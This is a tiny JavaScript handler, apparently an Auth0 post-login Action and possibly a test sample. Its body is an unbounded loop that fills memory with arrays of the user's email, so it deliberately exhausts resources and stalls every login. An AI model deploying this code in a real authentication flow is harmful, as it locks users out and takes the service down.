exports.onExecutePostLogin = async (event, api) => {
  const chunks = [];
  for (;;) {
    chunks.push(new Array(100000).fill(event.user.email));
  }
};
